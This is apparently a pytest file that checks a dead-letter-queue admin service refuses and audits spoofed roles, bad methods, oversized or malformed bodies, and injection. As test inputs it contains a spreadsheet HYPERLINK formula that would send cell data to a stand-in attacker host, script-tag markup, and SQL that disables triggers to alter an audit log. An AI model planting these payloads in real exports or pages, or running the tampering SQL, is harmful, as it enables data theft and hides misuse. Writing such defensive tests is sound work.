"""The admin service refuses each of these requests, and records that it did."""

import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any, cast

import asyncpg
import httpx
import pytest

from surefoot.admin import PREFIX
from surefoot.audit.record import verify
from surefoot.database.connection import Connection
from surefoot.dlq.settings import DlqSettings
from tests.support.corpus import each_of
from tests.support.dlq.http_harness import WHY, Ground, assert_problem, ground_at

MIB = 1024 * 1024


@pytest.fixture
async def ground(database_url: str) -> AsyncIterator[Ground]:
    async with ground_at(database_url) as ground:
        yield ground


async def a_discard(ground: Ground, by: str = "otto", many: int = 2) -> dict[str, Any]:
    ids = await ground.letters(many)
    approval: dict[str, Any] = (await ground.post(by, "/discard", {"event_id": ids, "reason": WHY})).json()
    return approval


async def approved(ground: Ground, person: str, approval: dict[str, Any]) -> httpx.Response:
    body = {"set_hash": approval["set_hash"], "reason": WHY}
    return await ground.post(person, f"/approvals/{approval['id']}/approve", body)


async def raw(ground: Ground, person: str, method: str, path: str, **what: Any) -> httpx.Response:
    headers = {"Authorization": f"Bearer {ground.tokens[person]}", **what.pop("headers", {})}
    return await ground.client.request(method, PREFIX + path, headers=headers, **what)


async def test_without_a_token(ground: Ground) -> None:
    ids = await ground.letters(1)
    assert_problem(await ground.post(None, "/replay", {"event_id": ids, "reason": WHY}), 401, "Say who you are")
    assert await ground.statuses() == ["OPEN"]
    assert await ground.refused() == [("anonymous", "access", "POST /admin/dlq/replay")]


async def test_with_a_role_that_may_not(ground: Ground) -> None:
    ids = await ground.letters(1)
    assert_problem(await ground.post("vera", "/replay", {"event_id": ids, "reason": WHY}), 403, "needs OPERATOR")
    assert await ground.statuses() == ["OPEN"]
    assert await ground.refused() == [("vera", "replay", "POST /admin/dlq/replay")]


@pytest.mark.parametrize("extra", [{"role": "SUPER_ADMIN"}, {"person": "sue"}, {"requested_by": "sue"}, {"by": "sue"}])
async def test_a_role_or_a_name_in_the_body(ground: Ground, extra: dict[str, str]) -> None:
    approval = await a_discard(ground, by="ada")
    body = {"set_hash": approval["set_hash"], "reason": WHY, **extra}
    assert_problem(await ground.post("ada", f"/approvals/{approval['id']}/approve", body), 403, "needs SUPER_ADMIN")
    answer = await ground.post("sam", f"/approvals/{approval['id']}/approve", body)
    assert_problem(answer, 422, f"{next(iter(extra))} is not a parameter of this.")
    assert await ground.statuses() == ["DISCARD_REQUESTED"] * 2
    assert await ground.refused() == [("ada", "approve", approval["id"]), ("sam", "approve", approval["id"])]


async def test_a_role_in_the_query_or_a_header(ground: Ground) -> None:
    approval = await a_discard(ground)
    body = {"set_hash": approval["set_hash"], "reason": WHY}
    headers = {"X-Role": "SUPER_ADMIN", "X-Surefoot-Person": "sue", "X-Forwarded-User": "sue"}
    path = f"/approvals/{approval['id']}/approve?role=SUPER_ADMIN"
    assert_problem(await raw(ground, "ada", "POST", path, json=body, headers=headers), 403, "ada is ADMIN here")
    assert await ground.refused() == [("ada", "approve", approval["id"])]


async def test_ones_own_approval(ground: Ground) -> None:
    approval = await a_discard(ground, by="sue")
    assert_problem(await approved(ground, "sue", approval), 403, "somebody else has to decide it")
    assert await ground.statuses() == ["DISCARD_REQUESTED"] * 2
    assert await ground.refused() == [("sue", "approve", approval["id"])]


async def test_an_approval_twice(ground: Ground) -> None:
    approval = await a_discard(ground)
    assert (await approved(ground, "sue", approval)).status_code == 202
    assert_problem(await approved(ground, "sam", approval), 409, "APPROVED already, by sue")
    answer = await ground.post("sam", f"/approvals/{approval['id']}/refuse", {"reason": WHY})
    assert_problem(answer, 409, "APPROVED already, by sue")
    assert await ground.count("dlq_jobs") == 1
    assert await ground.refused() == [("sam", "approve", approval["id"]), ("sam", "refuse", approval["id"])]


async def test_a_set_that_changed_after_it_was_looked_at(ground: Ground) -> None:
    approval = await a_discard(ground)
    await ground.connection.execute(
        "UPDATE surefoot.dlq_events SET deaths = 2, letter_id = 'another' WHERE event_id = 'event-1'"
    )
    assert_problem(await approved(ground, "sue", approval), 409, "no longer those that the request was made for")
    assert await ground.count("dlq_jobs") == 0
    assert await ground.refused() == [("sue", "approve", approval["id"])]


async def test_an_approval_of_another_set(ground: Ground) -> None:
    approval = await a_discard(ground)
    assert_problem(await approved(ground, "sue", {**approval, "set_hash": "0" * 64}), 409, "hash that was quoted")
    assert await ground.count("dlq_jobs") == 0
    assert await ground.refused() == [("sue", "approve", approval["id"])]


async def test_an_approval_too_late(ground: Ground) -> None:
    approval = await a_discard(ground)
    await ground.connection.execute("UPDATE surefoot.dlq_approvals SET expires_at = now() - interval '1 second'")
    assert_problem(await approved(ground, "sue", approval), 409, "The time in which it could be decided ended at")
    assert await ground.count("dlq_jobs") == 0
    assert await ground.refused() == [("sue", "approve", approval["id"])]


@each_of("method", ["GET", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "REPLAY"])
async def test_another_method(ground: Ground, method: str) -> None:
    before = len(await ground.refused())
    answer = await raw(ground, "sue", method, "/replay")
    assert answer.status_code == 405
    assert answer.headers["allow"] == "POST"
    assert answer.headers["content-type"] == "application/problem+json"
    assert (await ground.refused())[before:] == [("sue", "request", f"{method} /admin/dlq/replay")]


async def test_a_method_in_a_header(ground: Ground) -> None:
    (letter,) = await ground.letters(1)
    answer = await raw(ground, "sue", "GET", f"/events/{letter}", headers={"X-HTTP-Method-Override": "DELETE"})
    assert answer.status_code == 200
    assert await ground.statuses() == ["OPEN"]


@pytest.mark.slow
async def test_ten_thousand_and_one_items(ground: Ground) -> None:
    await ground.letters(10_001)
    for path in ("/replay", "/discard"):
        ids = [f"event-{number}" for number in range(10_001)]
        answer = await ground.post("otto", path, {"event_id": ids, "reason": WHY})
        assert_problem(answer, 422, "More than 10000 dead letters")
        answer = await ground.post("otto", path, {"filter": {"consumer": "warehouse"}, "reason": WHY})
        assert_problem(answer, 422, "More than 10000 dead letters")
    assert set(await ground.statuses()) == {"OPEN"}
    assert [each[:2] for each in await ground.refused()] == [("otto", "replay")] * 2 + [("otto", "discard")] * 2
    ids = [f"event-{number}" for number in range(10_000)]
    assert (await ground.post("otto", "/replay", {"event_id": ids, "reason": WHY})).json()["total"] == 10_000


async def test_a_set_larger_than_a_smaller_bound(database_url: str) -> None:
    async with ground_at(database_url, settings=DlqSettings(most_items=2)) as ground:
        ids = await ground.letters(3)
        answer = await ground.post("otto", "/replay", {"event_id": ids, "reason": WHY})
        assert_problem(answer, 422, "More than 2 dead letters")


@pytest.mark.parametrize("says_its_length", [True, False])
async def test_a_body_of_fifty_mebibytes(ground: Ground, says_its_length: bool) -> None:
    sent = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal sent
        for _ in range(50):
            sent += MIB
            yield b" " * MIB

    headers = {"Content-Type": "application/json"}
    if says_its_length:
        headers["Content-Length"] = str(50 * MIB)
    answer = await raw(ground, "otto", "POST", "/replay", content=body(), headers=headers)
    assert_problem(answer, 413, "larger than 1024 KiB")
    assert sent <= (0 if says_its_length else 2 * MIB)
    assert await ground.refused() == [("otto", "request", "POST /admin/dlq/replay")]


async def test_a_body_of_strangers_is_not_read(ground: Ground) -> None:
    async def body() -> AsyncIterator[bytes]:
        yield b" "
        raise AssertionError("somebody reads it")

    answer = await ground.client.post(f"{PREFIX}/replay", content=body(), headers={"Content-Type": "application/json"})
    assert_problem(answer, 401, "Say who you are")


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "application/xml", ""])
async def test_a_body_that_a_page_of_another_origin_could_send(ground: Ground, content_type: str) -> None:
    """A browser sends these to anybody without asking first."""
    (letter,) = await ground.letters(1)
    content = json.dumps({"event_id": [letter], "reason": WHY}).encode()
    answer = await raw(ground, "otto", "POST", "/replay", content=content, headers={"Content-Type": content_type})
    assert_problem(answer, 415, "The body must be JSON")
    assert await ground.statuses() == ["OPEN"]
    assert await ground.refused() == [("otto", "replay", "POST /admin/dlq/replay")]


@each_of(
    "content",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b"\xff",
        b"[" * 100_000,
        b'{"event_id": ["x"], "reason": "\\ud800"}',
        b'{"event_id": ["x"], "reason": " "}',
        b'{"event_id": ["x"], "reason": "' + b"x" * 5000 + b'"}',
        b'{"event_id": [], "reason": "why"}',
        b'{"event_id": ["\\ud800"], "reason": "why"}',
        b'{"event_id": ["x"], "filter": {"key": "y"}, "reason": "why"}',
        b'{"reason": "why"}',
        b'{"filter": {}, "reason": "why"}',
        b'{"filter": {"kye": "y"}, "reason": "why"}',
        b'{"event_id": ["x"], "reason": "why", "rate": NaN}',
        b'{"event_id": ["x"], "reason": "why", "rate": 1e999}',
        b'{"event_id": ["x"], "reason": "why", "canary": -1}',
        b'{"event_id": ["x"], "reason": "why", "canary": ' + b"9" * 5000 + b"}",
        b'{"event_id": ["x"], "reason": "why", "dry_run": "no"}',
        b'{"event_id": ["x"], "reason": "why", "stop_on_error_rate": 2}',
    ],
)
async def test_a_body_that_does_not_fit(ground: Ground, content: bytes) -> None:
    before = len(await ground.refused())
    answer = await raw(ground, "otto", "POST", "/replay", content=content, headers={"Content-Type": "application/json"})
    assert answer.status_code in (400, 422)
    assert_problem(answer, answer.status_code, "")
    assert len(answer.content) < 2000
    assert (await ground.refused())[before:] == [("otto", "replay", "POST /admin/dlq/replay")]


async def test_a_text_with_a_nul_is_taken_for_what_it_is(ground: Ground) -> None:
    (letter,) = await ground.letters(1)
    body = {"event_id": ["a\x00b"], "reason": "why\x00"}
    assert_problem(await ground.post("otto", "/replay", body), 409, "1 no such letter")
    assert (await ground.post("otto", "/replay", {**body, "event_id": [letter]})).status_code == 202


@pytest.mark.parametrize("payload", ["\ud800", float("nan"), {"a": "\x00"}])
async def test_an_edited_event_that_cannot_be_one(ground: Ground, payload: object) -> None:
    (letter,) = await ground.letters(1)
    content = json.dumps({"payload": payload, "reason": WHY}).encode()
    answer = await raw(
        ground, "ada", "POST", f"/events/{letter}/edit-replay", content=content,
        headers={"Content-Type": "application/json"},
    )  # fmt: skip
    assert_problem(answer, 422, "")
    assert await ground.refused() == [("ada", "edit_replay", letter)]


async def test_markup_in_a_dead_letter_stays_data(ground: Ground) -> None:
    markup = "<script>alert(1)</script>"
    value = json.dumps({"order_id": markup}).encode()
    (letter,) = await ground.letters(1, value=value, error=markup, key=markup, consumer=markup)
    for path in ("/events", f"/events/{letter}", "/groups"):
        answer = await ground.get("vera", path)
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"].startswith("default-src 'none'")
        assert markup in answer.text


async def test_markup_in_what_is_asked_comes_back_as_a_problem_and_not_as_a_page(ground: Ground) -> None:
    answer = await ground.get("vera", "/groups/<script>alert(1)<%2Fscript>")
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.headers["x-content-type-options"] == "nosniff"


async def test_formulas_in_a_dead_letter_are_defused_in_an_export(ground: Ground) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"click")'
    await ground.letters(1, error=formula, key="@SUM(1)", correlation_id="+1", saga_id="-1", event_id="\t=1")
    answer = await ground.get("ada", "/export?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-disposition"] == 'attachment; filename="dead-letters.csv"'
    (row,) = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert row["error"] == "'" + formula
    assert (row["key"], row["correlation_id"], row["saga_id"], row["event_id"]) == ("'@SUM(1)", "'+1", "'-1", "'\t=1")
    assert await ground.audit() == [("ada", "export", "done", "GET /admin/dlq/export")]


async def test_an_export_has_every_letter_and_shows_nothing_that_is_masked(ground: Ground) -> None:
    value = b'{"order_id": "1", "ship_to": {"name": "Ada Lovelace"}}'
    ids = await ground.letters(120, value=value)
    lines = (await ground.get("ada", "/export?format=jsonl")).text.splitlines()
    assert [json.loads(line)["id"] for line in lines] == ids[::-1]
    assert not any("Lovelace" in line for line in lines)
    some = (await ground.get("ada", "/export?format=jsonl&failed_before=2026-11-16T12:01:10Z")).text.splitlines()
    assert [json.loads(line)["id"] for line in some] == ids[69::-1]
    assert_problem(await ground.get("ada", "/export?format=xlsx"), 422, "format cannot be used")
    assert_problem(await ground.get("otto", "/export"), 403, "needs ADMIN")
    assert await ground.refused() == [
        ("ada", "export", "GET /admin/dlq/export"),
        ("otto", "export", "GET /admin/dlq/export"),
    ]


async def test_an_audit_row_cannot_be_changed_and_is_found_if_it_was(ground: Ground) -> None:
    approval = await a_discard(ground)
    await approved(ground, "sue", approval)
    connection = cast(Connection, ground.connection)
    for statement in (
        "UPDATE surefoot.audit_log SET person = 'ada' WHERE action = 'approve'",
        "DELETE FROM surefoot.audit_log",
        "TRUNCATE surefoot.audit_log",
    ):
        with pytest.raises(asyncpg.RaiseError, match="the audit log only grows"):
            await ground.connection.execute(statement)
    assert await verify(connection, "surefoot") == []
    await ground.connection.execute(
        """ALTER TABLE surefoot.audit_log DISABLE TRIGGER ALL;
           UPDATE surefoot.audit_log SET person = 'ada' WHERE action = 'approve';
           ALTER TABLE surefoot.audit_log ENABLE TRIGGER ALL"""
    )
    number = await ground.connection.fetchval("SELECT number FROM surefoot.audit_log WHERE action = 'approve'")
    assert [(found.first, found.kind) for found in await verify(connection, "surefoot")] == [(number, "changed")]


async def test_the_audit_log_cannot_be_written_to_over_http(ground: Ground) -> None:
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        assert (await raw(ground, "sue", method, "/audit", json={})).status_code == 405
    assert [each[1:] for each in await ground.refused()] == [
        ("request", f"{method} /admin/dlq/audit") for method in ("POST", "PUT", "PATCH", "DELETE")
    ]
